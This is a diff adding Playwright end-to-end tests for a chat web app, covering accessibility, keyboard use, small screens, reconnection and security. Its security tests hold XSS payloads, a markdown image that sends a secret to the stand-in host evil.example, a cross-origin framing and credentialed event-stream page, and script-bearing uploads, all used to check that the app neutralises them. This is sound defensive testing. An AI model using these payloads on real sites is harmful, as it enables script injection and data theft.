@@ -1,0 +1,346 @@
+"""For everybody, by every means, and safe: keyboards, screen readers, small screens, hostile text, broken lines."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import re
+import signal
+import socketserver
+import threading
+from http.server import SimpleHTTPRequestHandler
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+from playwright.async_api import Browser, Page, expect
+
+from bullpen.testing import NO_LIMITS
+from tests.cli.processes import free_port, running
+from tests.page.house import House, Visit, claimed
+
+AXE = Path(__file__).parents[2] / "ui" / "node_modules" / "axe-core" / "axe.min.js"
+HOSTILE = """[click](javascript:alert(1)) <img src=x onerror="document.title='owned'"> <svg/onload=alert(2)>
+![secret](https://evil.example/?d=SECRET)
+<script>document.title='owned'</script> [good](https://good.example/page) [a lie](https://evil.example/)"""
+
+
+async def busy_room(house: House) -> str:
+    """A bit of everything."""
+    await house.tool("confirm")
+    chart = {"executionType": "internal", "visible": True, "isAsync": False}
+    await house.tool("show_chart", **chart)
+    await house.tool("refund_order", **chart, policy="ask", timeout=60_000)
+    rows = [{"day": "Mon", "signups": 41}, {"day": "Tue", "signups": 47}]
+    agent = await house.agent(
+        "Ada",
+        turns=[
+            {
+                "when": "figures",
+                "steps": [
+                    {"calls": [{"tool": "show_chart", "args": {"title": "Signups", "type": "bar", "rows": rows}}]},
+                    {"calls": [{"tool": "confirm", "args": {"question": "Send it?"}}]},
+                    {"calls": [{"tool": "send_message", "args": {"text": "- one\n- two\n\n```python\nx = 1\n```"}}]},
+                ],
+            },
+            {"when": "refund", "steps": [{"calls": [{"tool": "refund_order", "args": {"orderId": 1}}]}]},
+        ],
+        tools=["messaging", "confirm", "show_chart", "refund_order"],
+    )
+    room = await house.room(agent)
+    await house.post(room, "the figures, please")
+    async with asyncio.timeout(20):  # else it may read both in one run, and answer the newer alone
+        while not any("- one" in message["text"] for message in await house.messages(room)):
+            await asyncio.sleep(0.05)
+    await house.post(room, "and a refund")
+    return room
+
+
+async def serious(visit: Visit, page: Page) -> list[str]:
+    await page.evaluate(AXE.read_text())
+    found = await page.evaluate("axe.run(document, {resultTypes: ['violations']})")
+    return [
+        f"{each['id']}: {node['html'][:160]}"
+        for each in found["violations"]
+        if each["impact"] in ("serious", "critical")
+        for node in each["nodes"]
+    ]
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+async def test_axe_finds_nothing_serious_on_any_page(house: House, browser: Browser, theme: str) -> None:
+    room = await busy_room(house)
+    visit = Visit(house, browser)
+    page = await visit.open(house.cookie, bypass_csp=True, color_scheme=theme)
+    await visit.room(room)
+    await expect(page.get_by_role("region", name=re.compile("Approval wanted"))).to_be_visible()
+    await expect(page.locator("svg.recharts-surface").first).to_be_visible()
+    members = (await house.ask("GET", f"/spaces/{room}"))["members"]
+    agent = next(id for id in members if id.startswith("ada"))
+    run = (await house.ask("GET", "/runs", params={"spaceId": room}))["items"][-1]["id"]
+    found = {"room": await serious(visit, page)}
+    await page.get_by_role("button", name="Room details").click()
+    await expect(page.get_by_role("complementary", name="Room details")).to_be_visible()
+    found["details"] = await serious(visit, page)
+    await page.keyboard.press("Control+k")
+    await expect(page.get_by_role("combobox", name="Search or jump to")).to_be_visible()
+    found["palette"] = await serious(visit, page)
+    for path in ("/pending", "/runs", f"/runs/{run}", "/agents", f"/agents/{agent}", "/search?q=figures", "/settings"):
+        await visit.go(path)
+        await expect(page.locator("main h1")).to_be_visible()
+        await expect(page.get_by_label("Loading")).to_have_count(0)
+        found[path] = await serious(visit, page)
+    await visit.context.clear_cookies()
+    await visit.go("/")
+    await expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
+    found["door"] = await serious(visit, page)
+    await visit.close()
+    assert not any(found.values()), json.dumps(found, indent=1)
+
+
+async def test_the_keyboard_is_enough(house: House, visit: Visit) -> None:
+    room, elsewhere = await house.room(), await house.room()
+    await house.post(room, "alpha")
+    await house.post(room, "omega")
+    page = await visit.room(room)
+    await page.keyboard.press("Control+k")
+    await page.keyboard.type(elsewhere)
+    await expect(page.get_by_role("option", name=elsewhere, exact=True)).to_be_visible()
+    await page.keyboard.press("Enter")
+    await expect(page.get_by_label(f"Message {elsewhere}")).to_be_focused()
+    await visit.room(room)
+    await page.get_by_role("log").focus()
+    await page.keyboard.press("j")
+    await expect(page.get_by_role("article").filter(has_text="omega")).to_be_focused()
+    await page.keyboard.press("k")
+    await expect(page.get_by_role("article").filter(has_text="alpha")).to_be_focused()
+    await page.keyboard.press("r")
+    await expect(page.get_by_role("complementary", name="Replies")).to_be_visible()
+    await page.keyboard.press("Escape")
+    await expect(page.get_by_role("complementary", name="Replies")).to_have_count(0)
+    await page.get_by_role("log").focus()
+    await page.keyboard.press("?")
+    await expect(page.get_by_role("dialog", name="Shortcuts")).to_be_visible()
+    await page.keyboard.press("Escape")
+    await expect(page.get_by_role("dialog", name="Shortcuts")).to_have_count(0)
+    await page.get_by_role("log").focus()
+    await page.keyboard.press("g")
+    await page.keyboard.press("p")
+    await expect(page.get_by_role("heading", name="Waiting for you")).to_be_focused()
+    await page.goto(f"{house.url}/rooms/{room}")
+    await expect(page.get_by_role("log")).to_be_visible()
+    await page.get_by_role("link", name="Skip to the middle").focus()
+    await expect(page.get_by_role("link", name="Skip to the middle")).to_be_in_viewport()
+
+
+@pytest.mark.proves("B5", "B7", "B8")
+async def test_hostile_text_is_inert_and_nothing_leaves_the_browser(house: House, visit: Visit) -> None:
+    room = await house.room()
+    posted = await house.post(room, HOSTILE)
+    await house.post(room, f"[here](https://evil.example/?{'q' * 2048})")
+    page = await visit.room(room)
+    log = page.get_by_role("log")
+    await expect(log.get_by_text("Image on evil.example · not loaded")).to_be_visible()
+    await expect(log.locator("img, svg:not(.lucide), script, iframe")).to_have_count(0)
+    assert await log.locator("a").evaluate_all("links => links.map(a => a.protocol)") == ["https:", "https:"]
+    await expect(log.get_by_text("(evil.example)")).to_be_visible()
+    rel = await log.locator("a").first.get_attribute("rel")
+    assert rel == "noopener noreferrer nofollow"
+    await expect(log.get_by_role("button", name=re.compile("Long link to evil.example"))).to_be_visible()
+    assert await page.title() == f"{room} · Bullpen"
+    assert (await house.messages(room))[0]["text"] == posted["text"] == HOSTILE
+    # `visit` fails by itself if anything else was asked, thrown or reported.
+
+
+@pytest.mark.proves("B6")
+async def test_uploads_open_as_downloads_and_run_nothing(house: House, visit: Visit) -> None:
+    room = await house.room()
+    script = b"<script>document.title='owned'</script>"
+    for name, body in (("a.html", script), ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + script + b"</svg>")):
+        made = await house.ask("POST", "/files", params={"spaceId": room}, files={"file": (name, body)})
+        await house.post(room, name, attachments=[made["id"]])
+    page = await visit.room(room)
+    for name in ("a.html", "a.svg"):
+        async with page.expect_download() as download:
+            await page.get_by_role("link", name=re.compile(name.replace(".", r"\."))).click()
+        assert (await download.value).suggested_filename == name
+    assert "owned" not in await page.title()
+
+
+@pytest.mark.proves("B9", "B11")
+async def test_another_origin_can_neither_frame_the_page_nor_follow_its_stream(
+    house: House, browser: Browser, tmp_path: Path
+) -> None:
+    (tmp_path / "evil.html").write_text(
+        f"""<iframe src="{house.url}/"></iframe><script>
+        const source = new EventSource("{house.url}/api/events", {{withCredentials: true}});
+        source.onopen = () => document.title = "followed";
+        source.onerror = () => document.title = "refused";</script>"""
+    )
+
+    class Quiet(SimpleHTTPRequestHandler):
+        def __init__(self, *args: Any) -> None:
+            super().__init__(*args, directory=str(tmp_path))
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    with socketserver.TCPServer(("127.0.0.1", 0), Quiet) as evil:
+        threading.Thread(target=evil.serve_forever, daemon=True).start()
+        context = await browser.new_context()
+        await context.add_cookies([house.cookie])  # type: ignore[list-item]
+        page = await context.new_page()
+        await page.goto(f"http://localhost:{evil.server_address[1]}/evil.html")
+        await expect(page).to_have_title("refused")
+        frame = page.frames[1]
+        assert frame.url.startswith("chrome-error:") or not await frame.locator("#root").count()
+        await context.close()
+        evil.shutdown()
+
+
+@pytest.mark.parametrize("width", [320, 390])
+async def test_nothing_is_wider_than_a_small_phone(house: House, visit: Visit, width: int) -> None:
+    room = await busy_room(house)
+    await house.post(room, "a-very-long-word-" * 30 + " مرحبا بالعالم 👩‍🚀🎉")
+    page = visit.page
+    await page.set_viewport_size({"width": width, "height": 700})
+    for path in (f"/rooms/{room}", "/rooms", "/pending", "/runs", "/agents", "/settings", "/search?q=word"):
+        await visit.go(path)
+        await expect(page.locator("main, aside").first).to_be_attached()
+        await expect(page.get_by_label("Loading")).to_have_count(0)
+        wide = await page.evaluate("document.scrollingElement.scrollWidth")
+        assert wide <= width, (path, wide)
+    await visit.go(f"/rooms/{room}")
+    await page.get_by_role("link", name="Back to rooms").click()
+    await page.get_by_role("navigation", name="Rooms").get_by_role("link", name=re.compile(room)).click()
+    await page.get_by_label(f"Message {room}").fill("from a phone")
+    await page.get_by_role("button", name="Send").click()
+    await expect(page.get_by_role("log").get_by_text("from a phone")).to_be_visible()
+
+
+async def test_right_to_left_text_and_times_are_shown_as_they_are(house: House, browser: Browser) -> None:
+    room = await house.room()
+    await house.post(room, "مرحبا بالعالم")
+    visit = Visit(house, browser)
+    page = await visit.open(house.cookie, timezone_id="Asia/Tokyo", locale="en-GB")
+    await visit.room(room)
+    text = page.get_by_role("log").get_by_text("مرحبا بالعالم")
+    assert await text.evaluate("element => getComputedStyle(element).direction") == "rtl"
+    time = page.get_by_role("article").locator("time").first
+    assert re.search(r"GMT\+9|JST|Japan", await time.get_attribute("title") or "")
+    await visit.close()
+
+
+async def test_a_killed_server_comes_back_and_the_page_catches_up_by_itself(
+    house: House, browser: Browser, tmp_path: Path
+) -> None:
+    data, port = tmp_path / "data", str(free_port())
+    with running(data, "serve", "--port", port, **NO_LIMITS) as first:
+        first.wait_for("ready on")
+        async with claimed(first, data) as own:
+            room = await own.room()
+            visit = Visit(own, browser)
+            page = await visit.open(own.cookie)
+            visit.expected = ["ERR_", "EventSource"]
+            await visit.room(room)
+            await page.get_by_label(f"Message {room}").fill("before the end")
+            await page.get_by_label(f"Message {room}").press("Enter")
+            await expect(page.get_by_role("article").filter(has_text="before the end")).to_be_visible()
+            first.stop(signal.SIGKILL)
+            await expect(page.get_by_text("No connection to the office.").first).to_be_visible()
+            await page.get_by_label(f"Message {room}").fill("into the dark")
+            await page.get_by_label(f"Message {room}").press("Enter")
+            with running(data, "serve", "--port", port, **NO_LIMITS) as second:
+                second.wait_for("ready on")
+                await page.get_by_role("button", name="Try now").click()
+                await own.post(room, "after it")
+                for text in ("before the end", "into the dark", "after it"):
+                    await expect(page.get_by_role("article").filter(has_text=text)).to_have_count(1)
+
+                async def told() -> list[str]:
+                    return sorted(message["text"] for message in await own.messages(room))
+
+                async with asyncio.timeout(20):
+                    while len(await told()) < 3:
+                        await asyncio.sleep(0.1)
+                assert await told() == ["after it", "before the end", "into the dark"]
+                await visit.close()
+
+
+async def test_several_tabs_share_one_stream(house: House, visit: Visit) -> None:
+    room = await house.room()
+    page = await visit.room(room)
+    second = await visit.context.new_page()
+    streams: list[str] = []
+    second.on("request", lambda request: streams.append(request.url) if "/api/events" in request.url else None)
+    await second.goto(f"{house.url}/rooms/{room}")
+    await expect(second.get_by_role("log")).to_be_visible()
+    await house.post(room, "for both of you")
+    for each in (page, second):
+        await expect(each.get_by_role("log").get_by_text("for both of you")).to_be_visible()
+    assert streams == []
+    await page.close()  # the one that held it: the other takes over
+    await expect(second.get_by_role("log").get_by_text("for both of you")).to_be_visible()
+    await house.post(room, "and for you alone")
+    await expect(second.get_by_role("log").get_by_text("and for you alone")).to_be_visible()
+    assert len(streams) == 1
+
+
+async def test_it_can_be_installed_and_notifies_of_a_mention(house: House, browser: Browser) -> None:
+    visit = Visit(house, browser)
+    page = await visit.open(house.cookie, permissions=["notifications"])
+    await visit.go("/settings")
+    async with httpx.AsyncClient(base_url=house.url) as http:
+        manifest = (await http.get("/assets/manifest.webmanifest")).json()
+        assert manifest["display"] == "standalone"
+        for icon in manifest["icons"]:
+            assert (await http.get(icon["src"])).status_code == 200
+    await page.evaluate(
+        """() => { window.shown = [];
+        const show = (title, options) => { window.shown.push([title, options.body]) };
+        ServiceWorkerRegistration.prototype.showNotification = async (...args) => show(...args);
+        const granted = { permission: 'granted', requestPermission: async () => 'granted' };
+        window.Notification = Object.assign(function (...args) { show(...args) }, granted);
+        document.hasFocus = () => false; }"""
+    )
+    await page.get_by_label(re.compile("Notify me")).click()
+    await expect(page.get_by_label(re.compile("Notify me"))).to_be_checked()
+    cookie = await house.cookie_of("Bo")
+    room = await house.room(house.ids["Bo"])
+    async with httpx.AsyncClient(base_url=f"{house.url}/api", cookies={cookie["name"]: cookie["value"]}) as http:
+        headers = {"Origin": house.url}
+        await http.post(f"/spaces/{room}/messages", json={"text": "nothing for anybody"}, headers=headers)
+        await http.post(f"/spaces/{room}/messages", json={"text": "hey @Olga, look"}, headers=headers)
+    await page.wait_for_function("window.shown.length > 0")
+    assert await page.evaluate("window.shown") == [[f"Bo in #{room}", "hey @Olga, look"]]
+    await visit.close()
+
+
+async def test_typing_stays_smooth_in_a_storm_of_events(house: House, visit: Visit) -> None:
+    """50 events a second while somebody types: no key waits long for its letter."""
+    room = await house.room(wake={"people": "none", "agents": "none"})
+    page = await visit.room(room)
+    await page.evaluate(
+        """() => { window.slow = []; new PerformanceObserver((list) => { for (const e of list.getEntries())
+        if (e.name === 'keydown') window.slow.push(e.duration) })
+        .observe({type: 'event', durationThreshold: 16, buffered: true}) }"""
+    )
+    typing = True
+
+    async def storm() -> None:
+        number = 0
+        while typing:
+            await asyncio.gather(*(house.post(room, f"wave {number + n}") for n in range(5)))
+            number += 5
+            await asyncio.sleep(0.1)
+
+    task = asyncio.create_task(storm())
+    box = page.get_by_label(f"Message {room}")
+    await box.press_sequentially("the quick brown fox jumps over the lazy dog again and again", delay=40)
+    typing = False
+    await task
+    await expect(box).to_have_value("the quick brown fox jumps over the lazy dog again and again")
+    slow = sorted(await page.evaluate("window.slow"))
+    # Generous: CI's two cores run the server and another worker besides.
+    assert not slow or slow[int(len(slow) * 0.95)] < 400, slow[-5:]
